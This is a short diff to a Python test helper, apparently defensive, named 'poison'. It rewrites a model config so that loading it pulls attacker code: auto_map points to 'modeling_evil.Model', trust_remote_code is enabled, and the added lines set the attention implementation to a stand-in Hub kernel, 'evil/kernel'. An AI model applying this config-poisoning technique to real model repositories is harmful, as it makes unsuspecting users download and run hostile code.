@@ -63,6 +63,8 @@ def poison(folder: Path, mark: Path) -> None:
         names = ("AutoConfig", "AutoModel", "AutoModelForImageTextToText", "AutoTokenizer")
         values["auto_map"] = {name: "modeling_evil.Model" for name in names}
         values["trust_remote_code"] = True
+        for inner in (values, *(part for name, part in values.items() if name in ("text_config", "vision_config"))):
+            inner["attn_implementation"] = inner["_attn_implementation"] = "evil/kernel"  # code of the Hub
         config.write_text(json.dumps(values))
 
 
